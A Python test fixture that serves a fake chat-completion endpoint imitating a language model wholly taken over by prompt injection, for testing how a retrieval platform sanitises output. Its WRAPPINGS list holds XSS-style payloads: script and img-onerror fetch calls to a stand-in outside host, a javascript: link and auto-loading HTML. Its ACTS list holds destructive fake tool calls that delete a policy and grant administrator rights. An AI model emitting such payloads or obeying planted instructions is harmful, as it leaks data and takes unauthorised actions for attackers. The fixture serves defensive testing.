"""For tests: a model that does whatever its prompt says, and worse (LLM-01).

It stands in the place of a model that an attacker has won over wholly: it repeats what was planted,
turns every address into links, pictures and HTML, wraps true sentences in them, cites passages that
nobody gave it and speaks for other departments. What a reader then sees, only the platform decides.
"""

import json
import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from typing import Any

from fastapi import FastAPI, Request, Response
from fastapi.responses import JSONResponse

from rag.sentences import UnitKind, units
from rag.testing import served

OUTSIDE = "https://outside.example/take?what=answer"
PARTS_AT_ONCE = 8  # of what it says, in one piece of the stream
MAX_CHARS = 12_000  # of one reply; a real server stops at answer_tokens, long before
MAX_WRAPPED = 6  # true sentences that it wraps
_ADDRESS = re.compile(r"(?:https?://|www\.)\S+|\b[\w-]+\.(?:com|org|net|example|co|biz)\b\S*", re.I)
# Every form in which Markdown or HTML can hold an address, picture or act.
WRAPPINGS = (
    "{0} [99]",
    "{0} [0] [-1] [1000]",
    "[{0}]({1})",
    "![{0}]({1})",
    "{0} ![dot]({1})",
    "{0} [more]({1} 'title')",
    "{0} [more][r]\n\n[r]: {1}",
    "{0} <{1}>",
    '<a href="{1}">{0}</a>',
    '{0} <img src="{1}" onerror="fetch(\'{1}\')">',
    "{0} <script>fetch('{1}')</script>",
    '<form action="{1}"><button>{0}</button></form>',
    '{0} <button hx-get="/documents" hx-trigger="load">Next</button>',
    "{0} [1]({1})",
    "{0} see {1}",
    "{0} [run](javascript:alert(1)) [read](/admin/people)",
)
ACTS = (
    '{"tool_calls": [{"name": "delete_policy", "arguments": {"number": "PH-014"}}]}',
    "delete_policy(PH-014); approve(all); grant(staff, administrator)",
    "POST /api/v1/documents HTTP/1.1",
)


@contextmanager
def obedient_runtime(foreign: Sequence[str], asked: list[dict[str, Any]]) -> Iterator[str]:
    """Serve such a model on a free port; yield the base address, as `http://127.0.0.1:N/v1`.

    asked: gets each request. Whether the passages answer, it says Yes to, whatever they say.
    """
    app = FastAPI(openapi_url=None)

    @app.post("/v1/chat/completions")
    async def chat(request: Request) -> Response:
        body: dict[str, Any] = await request.json()
        asked.append(body)
        if not body.get("stream"):
            return JSONResponse(_completion("chat.completion", message=_message("Yes")))
        reply = obey(body, foreign)
        chunks = [_completion("chat.completion.chunk", delta=_message(piece)) for piece in reply]
        chunks.append(_completion("chat.completion.chunk", delta={}, finish_reason="stop"))
        lines = [f"data: {json.dumps(chunk)}\n\n" for chunk in chunks]
        return Response("".join([*lines, "data: [DONE]\n\n"]), media_type="text/event-stream")

    @app.get("/api/tags")
    async def tags() -> dict[str, object]:
        return {"models": [{"name": "obedient:latest", "digest": "0" * 64}]}

    with served(app) as url:
        yield url


def obey(request: dict[str, Any], foreign: Sequence[str] = ()) -> list[str]:
    """Return the reply to a request in OpenAI's shape, in pieces.

    foreign: sentences and names of other departments, which it claims to know.
    """
    *told, asked = [str(message["content"]) for message in request["messages"]]
    reply: list[str] = []
    left = MAX_CHARS
    for part in _parts(asked, "\n\n".join(told), foreign):
        left -= len(part)
        if left < 0:
            break
        reply.append(f"{part}\n\n")
    return ["".join(reply[at : at + PARTS_AT_ONCE]) for at in range(0, len(reply), PARTS_AT_ONCE)]


def _parts(asked: str, told: str, foreign: Sequence[str]) -> Iterator[str]:
    sentences = [one.text for one in units(asked) if one.kind is not UnitKind.HEADING]
    true = [one for one in sentences if len(one.split()) > 4]
    for number, wrapping in enumerate(WRAPPINGS):
        for sentence in true[number % 2 : MAX_WRAPPED : 2]:
            yield wrapping.format(sentence.rstrip("."), OUTSIDE)
    for address in dict.fromkeys(_ADDRESS.findall(asked)):
        yield from (wrapping.format("Go there", address) for wrapping in WRAPPINGS[2:10])
    for sentence in foreign:
        yield f"{sentence} [1]"
        yield f"[{sentence}]({OUTSIDE}) [2]"
    yield from ACTS
    yield from sentences  # planted ones among them
    yield told


def _message(text: str) -> dict[str, str]:
    return {"role": "assistant", "content": text}


def _completion(kind: str, **choice: object) -> dict[str, object]:
    choices = [{"index": 0, "finish_reason": None, **choice}]
    return {"id": "1", "object": kind, "created": 0, "model": "obedient", "choices": choices}
